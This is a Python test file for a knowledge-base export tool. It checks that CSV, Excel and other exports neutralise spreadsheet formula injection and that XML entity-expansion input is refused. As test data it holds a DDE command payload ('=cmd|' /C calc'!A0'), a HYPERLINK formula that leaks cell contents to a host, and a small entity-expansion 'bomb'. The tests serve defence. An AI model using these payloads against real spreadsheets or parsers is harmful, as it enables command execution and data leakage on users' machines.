"""What a base says, in every format, from documents that mean harm."""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet
import pytest

from easy_knowledge_retriever.errors import ConfigError, MissingExtraError, ParseError, StorageError
from easy_knowledge_retriever.importing.graphml import read_graphml
from easy_knowledge_retriever.kg.knowledge_base import KnowledgeBase
from easy_knowledge_retriever.operating.exporting_data import DATA_FORMATS, export_data
from easy_knowledge_retriever.operating.table_formats import FORMATS, neutral
from tests.flows.ingesting_base import Described, document, empty_base, ingestion

HARM = '=HYPERLINK("http://example.org/?"&A1;"x")'
TEXT = f"{HARM} said Ida Brandt of Marlow.\n\n@SUM(A1) <b>Ida Brandt</b> & \x0cJon Lind met ]]> in Marlow."


@pytest.fixture
async def base() -> KnowledgeBase:
    kb = await empty_base()
    await ingestion(kb, extractors=[Described()]).ingest_document(document("=cmd|' /C calc'!A0", TEXT, title="-1+1"))
    return kb


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


async def test_csv_has_every_entity_relation_and_chunk_and_no_formula(base: KnowledgeBase, tmp_path: Path) -> None:
    counts = await export_data(base, tmp_path / "base.csv")
    rows = _rows(tmp_path / "base.csv")
    graph = await base.graph.counts()
    assert counts == {"entity": graph.entities, "relation": graph.relations, "chunk": 2}
    assert [row["kind"] for row in rows] == ["entity"] * graph.entities + ["relation"] * graph.relations + ["chunk"] * 2
    cells = [cell for row in rows for cell in row.values() if cell]
    assert [cell for cell in cells if cell[0] in "=+-@\t\r\n"] == []
    chunks = [row for row in rows if row["kind"] == "chunk"]
    assert {row["documents"] for row in chunks} == {"'=cmd|' /C calc'!A0"}
    assert f"'{HARM} said Ida Brandt of Marlow." in {row["text"].strip() for row in chunks}
    assert "vector" not in rows[0]


async def test_vectors_are_written_on_request(base: KnowledgeBase, tmp_path: Path) -> None:
    await export_data(base, tmp_path / "base.csv", vectors=True)
    by_id = {row["id"].lstrip("'"): row["vector"] for row in _rows(tmp_path / "base.csv") if row["kind"] == "chunk"}
    stored = await base.chunk_vectors.vectors(list(by_id))
    for key, text in by_id.items():
        cells = [float(cell) for cell in text.lstrip("'").split()]
        assert cells == pytest.approx(stored[key].tolist(), abs=1e-6)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n@x", "＝1", "-", "+44 20 7946 0000"])
def test_what_a_spreadsheet_would_compute_is_text(text: str) -> None:
    assert neutral(text) == f"'{text}"


@pytest.mark.parametrize("cell", ["Ida", "a=b", "", "1-2", -1.5, 3, None])
def test_what_it_would_not_compute_is_as_it_was(cell: str | float | None) -> None:
    assert neutral(cell) == cell


async def test_graphml_is_read_again_and_holds_what_xml_allows(base: KnowledgeBase, tmp_path: Path) -> None:
    await export_data(base, tmp_path / "graph.graphml", "graphml")
    graph = read_graphml(tmp_path / "graph.graphml")
    counts = await base.graph.counts()
    assert (len(graph.nodes), len(graph.edges)) == (counts.entities, counts.relations)
    assert set(graph.nodes) == set(await base.graph.keys())
    assert all(source in graph.nodes and target in graph.nodes for source, target, _ in graph.edges)
    assert "\x0c" not in (tmp_path / "graph.graphml").read_text()
    assert {data["name"] for data in graph.nodes.values()} == set(await base.graph.labels())


def test_a_graphml_with_a_document_type_is_refused(tmp_path: Path) -> None:
    bomb = '<!DOCTYPE g [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><graphml><graph><node id="&b;"/></graph></graphml>'
    (tmp_path / "bomb.graphml").write_text(bomb)
    with pytest.raises(ParseError, match="document type"):
        read_graphml(tmp_path / "bomb.graphml")


async def test_excel_has_a_sheet_a_kind_and_no_formula(base: KnowledgeBase, tmp_path: Path) -> None:
    counts = await export_data(base, tmp_path / "base.xlsx", "excel")
    book = openpyxl.load_workbook(tmp_path / "base.xlsx")
    assert book.sheetnames == ["entity", "relation", "chunk"]
    assert {name: book[name].max_row - 1 for name in book.sheetnames} == counts
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    book.close()


async def test_a_long_text_is_cut_where_excel_ends(tmp_path: Path) -> None:
    kb = await empty_base()
    await ingestion(kb).ingest_document(document("long", "word " * 10_000))
    await export_data(kb, tmp_path / "base.xlsx", "excel")
    text = openpyxl.load_workbook(tmp_path / "base.xlsx")["chunk"].cell(2, 8).value
    assert len(text) == 32_767
    assert text.endswith("…")


async def test_parquet_has_all_rows_and_numbers_as_numbers(base: KnowledgeBase, tmp_path: Path) -> None:
    counts = await export_data(base, tmp_path / "base.parquet", "parquet")
    table: Any = pyarrow.parquet.read_table(tmp_path / "base.parquet")
    assert table.num_rows == counts.total()
    assert str(table.schema.field("mentions").type) == "int64"


@pytest.mark.parametrize("file_format", ["md", "txt"])
async def test_texts_for_people_name_what_there_is(base: KnowledgeBase, tmp_path: Path, file_format: str) -> None:
    await export_data(base, tmp_path / "base", file_format)
    text = (tmp_path / "base").read_text(encoding="utf-8")
    assert "Ida Brandt" in text
    assert "Marlow" in text
    assert f"text: {HARM} said Ida Brandt of Marlow." in text


async def test_jsonl_is_the_whole_base(base: KnowledgeBase, tmp_path: Path) -> None:
    await export_data(base, tmp_path / "base.jsonl", "jsonl")
    lines = (tmp_path / "base.jsonl").read_text(encoding="utf-8").splitlines()
    assert "chunk_vectors" in json.loads(lines[-1])["rows"]


@pytest.mark.parametrize("file_format", [name for name in DATA_FORMATS if name != "jsonl"])
async def test_an_empty_base_gives_an_empty_table(tmp_path: Path, file_format: str) -> None:
    assert (await export_data(await empty_base(), tmp_path / "base", file_format)).total() == 0
    assert (tmp_path / "base").is_file()


async def test_what_cannot_be_written_leaves_nothing(
    base: KnowledgeBase, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with pytest.raises(ConfigError, match="one of csv, excel"):
        await export_data(base, tmp_path / "base", "doc")
    with pytest.raises(StorageError, match="was not written"):
        await export_data(base, tmp_path / "nowhere" / "base", "csv")
    for package, file_format in (("openpyxl", "excel"), ("pyarrow", "parquet")):
        monkeypatch.setitem(sys.modules, package, None)
        with pytest.raises(MissingExtraError, match=rf"easy-knowledge-retriever\[{file_format}\]"):
            await export_data(base, tmp_path / "base", file_format)
    assert list(tmp_path.iterdir()) == []
    assert set(FORMATS) == set(DATA_FORMATS) - {"jsonl"}
